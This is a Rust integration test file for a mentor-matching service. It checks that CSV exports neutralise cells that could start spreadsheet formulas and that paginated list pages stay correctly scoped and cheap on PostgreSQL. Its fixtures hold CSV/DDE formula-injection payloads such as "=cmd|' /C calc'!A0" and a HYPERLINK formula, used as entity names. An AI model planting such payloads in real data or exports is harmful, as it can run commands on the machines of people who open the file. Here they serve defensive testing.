//! Exports a spreadsheet can open safely, and list pages that stay cheap
//! on a large bank.

use crate::common::TestApp;
use mentor_match::service::auth::Role;
use mentor_match::store::{self, DocumentFilter, PageRequest, Scope, Table};
use serde_json::{Value, json};

/// Names a spreadsheet would evaluate as a formula if written verbatim.
/// A leading tab is trimmed by the profile parser, which leaves `=`.
const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://x\"&A1,\"Click\")",
    "+7(900)1234567+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
];

/// Whether a cell, opened in a spreadsheet, could start a formula.
fn starts_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

/// Every cell of a CSV body, read back with the `csv` crate.
fn cells_of(body: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        cells.extend(record.expect("well-formed CSV").iter().map(str::to_owned));
    }
    cells
}

fn assert_no_formula(what: &str, body: &str) {
    let cells = cells_of(body);
    assert!(!cells.is_empty(), "{what} is empty");
    let bad: Vec<&String> = cells.iter().filter(|c| starts_a_formula(c)).collect();
    assert!(bad.is_empty(), "{what} has formula cells {bad:?}:\n{body}");
}

/// A region whose organisations, mentors and mentees are all named like
/// formulas, with ids that start with `-` and `@`.
fn hostile_region() -> Value {
    let consent =
        json!({"given_by": "self", "date": "2026-09-01", "purposes": ["storage", "matching"]});
    let parent = json!({"given_by": "parent", "date": "2026-09-01", "purposes": ["storage", "matching"], "pupil_agreed_on": "2026-09-01"});
    let mentors: Vec<Value> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, name)| {
            json!({"id": format!("@t{i}"), "organization_id": "school-x", "full_name": name,
                   "birth_year": 1980, "kind": "teacher", "forms": ["teacher_pupil"], "capacity": 1,
                   "subjects": ["математика"], "competencies": ["подготовка к огэ"], "trained": true,
                   "availability": ["mon:7"], "consent": consent})
        })
        .collect();
    let mentees: Vec<Value> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, name)| {
            json!({"id": format!("-p{i}"), "organization_id": "school-x", "full_name": name,
                   "birth_year": 2012, "grade": 8, "kind": "pupil", "category": "struggling_pupil",
                   "subjects": ["математика"], "requests": ["подготовка к огэ"],
                   "availability": ["mon:7"], "consent": parent})
        })
        .collect();
    json!({
        "organizations": [
            {"id": "reg-x", "name": "-1+cmd|' /C calc'!A0", "kind": "region"},
            {"id": "mun-x", "name": "@mun+1", "kind": "municipality", "parent_id": "reg-x"},
            {"id": "school-x", "name": "=cmd|' /C calc'!A0", "kind": "school", "parent_id": "mun-x",
             "teacher_count": 40, "pupil_count": 500},
        ],
        "mentors": mentors,
        "mentees": mentees,
        "programmes": [{"id": "tp-x", "name": "=1+1", "form": "teacher_pupil",
                        "organization_ids": ["school-x"],
                        "period": {"start": "2026-09-01", "end": "2027-05-31"}}],
    })
}

async fn every_csv_export_neutralises_cells_that_would_start_a_formula(app: &TestApp) {
    let reply = app.import_json(&app.admin, "", &hostile_region()).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    let run = app.run_and_wait(&app.admin, "tp-x", json!({})).await;
    let proposals = run["proposals"].as_array().cloned().unwrap_or_default();
    assert_eq!(proposals.len(), FORMULAS.len(), "{run}");
    for p in &proposals {
        let reply = app.approve(&app.admin, p["id"].as_str().expect("id")).await;
        assert_eq!(reply.status, 200, "{}", reply.text);
    }

    for lang in ["en", "ru"] {
        let order = app
            .get(&format!("/api/v1/programmes/tp-x/pairs.csv?lang={lang}"))
            .await;
        assert_eq!(order.status, 200, "{}", order.text);
        assert_no_formula("the order list", &order.text);
        // Neutralised, not dropped: each name is still there after its apostrophe.
        let cells = cells_of(&order.text);
        for name in FORMULAS {
            let name = name.trim();
            assert!(
                cells.iter().any(|c| *c == format!("'{name}")),
                "{name:?} missing from\n{}",
                order.text
            );
        }
    }

    let today = time::OffsetDateTime::now_utc().date();
    let period = format!("{}-{:02}", today.year(), u8::from(today.month()));
    for organization in ["reg-x", "mun-x", "school-x"] {
        let indicators = app
            .get(&format!(
                "/api/v1/reports/indicators.csv?organization_id={organization}&period={period}"
            ))
            .await;
        assert_eq!(indicators.status, 200, "{}", indicators.text);
        assert_no_formula("the indicators", &indicators.text);
        let accepted = app
            .send(
                reqwest::Method::GET,
                &format!(
                    "/api/v1/reports/indicators?organization_id={organization}&period={period}"
                ),
                Some(&app.admin.clone()),
                &[("accept", "text/csv")],
                None,
            )
            .await;
        assert_no_formula("the indicators (Accept: text/csv)", &accepted.text);
    }

    let run_id = run["id"].as_str().expect("run id");
    let analyst = app.key(Role::Analyst, None).await;
    for key in [app.admin.clone(), analyst] {
        let scores = app
            .get_as(&key, &format!("/api/v1/runs/{run_id}/scores"))
            .await;
        assert_eq!(scores.status, 200, "{}", scores.text);
        assert_no_formula("the score matrix", &scores.text);
    }
}

/// A region of `schools` schools in `municipalities` municipalities, with
/// `per_school` mentees each; mentee ids interleave schools, so a scope
/// is scattered through the id order.
fn bank(municipalities: usize, schools: usize, per_school: usize) -> Value {
    let mut organizations = vec![json!({"id": "reg", "name": "Регион", "kind": "region"})];
    for m in 0..municipalities {
        organizations.push(
            json!({"id": format!("mun-{m}"), "name": format!("Район {m}"),
                                  "kind": "municipality", "parent_id": "reg"}),
        );
    }
    let mut mentees = Vec::new();
    for s in 0..schools {
        organizations.push(json!({"id": format!("sch-{s}"), "name": format!("Школа {s}"),
                                  "kind": "school", "parent_id": format!("mun-{}", s % municipalities)}));
        for i in 0..per_school {
            mentees.push(
                json!({"id": format!("p-{i:04}-{s:03}"), "organization_id": format!("sch-{s}"),
                                "full_name": format!("Ученик {i} школы {s}"), "birth_year": 2012,
                                "grade": 8, "kind": "pupil", "category": "struggling_pupil",
                                "subjects": ["математика"]}),
            );
        }
    }
    json!({"organizations": organizations, "mentors": [], "mentees": mentees})
}

/// The mentee ids under `organization` (an id of [`bank`]), in id order.
fn expected_ids(bank: &Value, organization: &str) -> Vec<String> {
    let parent_of = |id: &str| -> Option<String> {
        bank["organizations"]
            .as_array()
            .and_then(|orgs| orgs.iter().find(|o| o["id"] == id))
            .and_then(|o| o["parent_id"].as_str().map(str::to_owned))
    };
    let under = |mut id: String| loop {
        if id == organization {
            return true;
        }
        match parent_of(&id) {
            Some(parent) => id = parent,
            None => return false,
        }
    };
    let mut ids: Vec<String> = bank["mentees"]
        .as_array()
        .expect("mentees")
        .iter()
        .filter(|m| under(m["organization_id"].as_str().expect("org").to_owned()))
        .map(|m| m["id"].as_str().expect("id").to_owned())
        .collect();
    ids.sort();
    ids
}

/// Every page of `path` (which already has a query) as `key`, following `next`.
async fn all_pages(app: &TestApp, key: &str, path: &str, limit: usize) -> Vec<String> {
    let mut ids = Vec::new();
    let mut after: Option<String> = None;
    loop {
        let cursor = after.map(|a| format!("&after={a}")).unwrap_or_default();
        let reply = app
            .get_as(key, &format!("{path}&limit={limit}{cursor}"))
            .await;
        assert_eq!(reply.status, 200, "{}", reply.text);
        let items = reply.body["items"].as_array().expect("items");
        assert!(items.len() <= limit);
        ids.extend(
            items
                .iter()
                .map(|m| m["id"].as_str().expect("id").to_owned()),
        );
        match reply.body["next"].as_str() {
            Some(next) => {
                assert_eq!(items.len(), limit, "only a full page has a next one");
                after = Some(next.to_owned());
            }
            None => return ids,
        }
    }
}

async fn list_pages_hold_exactly_the_rows_in_scope_in_id_order(app: &TestApp) {
    // 1 region, 2 municipalities, 14 schools: a school is a small share
    // of the organisations, a municipality a large one, the region all.
    let bank = bank(2, 14, 9);
    let reply = app.import_json(&app.admin, "", &bank).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    let cases: [(Option<&str>, Option<&str>, &str); 9] = [
        (None, None, "reg"),
        (None, Some("mun-1"), "mun-1"),
        (None, Some("sch-3"), "sch-3"),
        (Some("reg"), None, "reg"),
        (Some("mun-0"), None, "mun-0"),
        (Some("mun-0"), Some("sch-4"), "sch-4"),
        (Some("sch-5"), None, "sch-5"),
        // A school's curator filtering by its municipality sees the school.
        (Some("sch-5"), Some("mun-1"), "sch-5"),
        // …and by another municipality, nothing.
        (Some("sch-5"), Some("mun-0"), "none"),
    ];
    for (scope, filter, expected_under) in cases {
        let key = match scope {
            None => app.admin.clone(),
            Some(org) => app.key(Role::Curator, Some(org)).await,
        };
        let path = match filter {
            None => "/api/v1/mentees?kind=pupil".to_owned(),
            Some(org) => format!("/api/v1/mentees?organization_id={org}"),
        };
        let expected = expected_ids(&bank, expected_under);
        for limit in [1, 7, 100] {
            let ids = all_pages(app, &key, &path, limit).await;
            assert_eq!(
                ids, expected,
                "scope {scope:?}, filter {filter:?}, limit {limit}"
            );
        }
    }
    let unknown = app
        .get("/api/v1/mentees?organization_id=no-such-school")
        .await;
    assert_eq!(unknown.body["items"], json!([]), "{}", unknown.text);
}

/// Rows of `mentees` PostgreSQL has read so far (sequentially or through an index).
async fn mentee_rows_read(db: &sqlx::PgPool) -> i64 {
    sqlx::query_scalar(
        "SELECT COALESCE(seq_tup_read, 0) + COALESCE(idx_tup_fetch, 0) \
         FROM pg_stat_user_tables WHERE relname = 'mentees'",
    )
    .fetch_one(db)
    .await
    .expect("table statistics")
}

/// The rows of `mentees` one list call reads: the call runs on a store of
/// its own, which is then dropped, because a connection reports its
/// counters when it ends (otherwise at most once a second).
async fn rows_read_by_list(
    app: &TestApp,
    db: &sqlx::PgPool,
    scope: Scope,
    filter: DocumentFilter,
    after: Option<&str>,
) -> i64 {
    let before = mentee_rows_read(db).await;
    let store = store::connect(&app.url).await.expect("store");
    let page = store
        .list_documents(
            &scope,
            Table::Mentees,
            &filter,
            &PageRequest {
                limit: 100,
                after: after.map(str::to_owned),
            },
        )
        .await
        .expect("page");
    assert_eq!(page.items.len(), 100);
    drop(store);
    let mut read = 0;
    for _ in 0..50 {
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        read = mentee_rows_read(db).await - before;
        if read > 0 {
            break;
        }
    }
    read
}

async fn a_list_page_reads_about_a_page_of_rows_not_the_whole_bank(app: &TestApp) {
    if !app.url.starts_with("postgres") {
        // SQLite keeps no per-table counters; its pages are checked for
        // completeness above, and its plans in the README's figures.
        return;
    }
    let bank = bank(4, 32, 100);
    let reply = app.import_json(&app.admin, "", &bank).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    let db = sqlx::PgPool::connect(&app.url).await.expect("database");
    sqlx::query("ANALYZE").execute(&db).await.expect("analyze");
    // The server's own connections report what the import read within
    // ten seconds of going idle; wait that out so it is not counted here.
    tokio::time::sleep(std::time::Duration::from_millis(11_000)).await;
    let under = |path: &str| Scope::Under {
        organization_id: String::new(),
        path: path.to_owned(),
    };
    let by_organization = |id: &str| DocumentFilter {
        organization_id: Some(id.to_owned()),
        ..DocumentFilter::default()
    };
    for (what, scope, filter, after) in [
        ("first page", Scope::All, DocumentFilter::default(), None),
        (
            "deep page",
            Scope::All,
            DocumentFilter::default(),
            Some("p-0050-000"),
        ),
        (
            "one municipality",
            Scope::All,
            by_organization("mun-1"),
            None,
        ),
        (
            "municipality's curator",
            under("/reg/mun-2/"),
            DocumentFilter::default(),
            Some("p-0020-002"),
        ),
        (
            "school's curator",
            under("/reg/mun-3/sch-7/"),
            DocumentFilter::default(),
            None,
        ),
    ] {
        let read = rows_read_by_list(app, &db, scope, filter, after).await;
        assert!(
            (1..=600).contains(&read),
            "{what}: read {read} of the bank's 3200 mentees for a page of 100"
        );
    }
    db.close().await;
}

on_both_backends!(
    every_csv_export_neutralises_cells_that_would_start_a_formula,
    list_pages_hold_exactly_the_rows_in_scope_in_id_order,
    a_list_page_reads_about_a_page_of_rows_not_the_whole_bank,
);
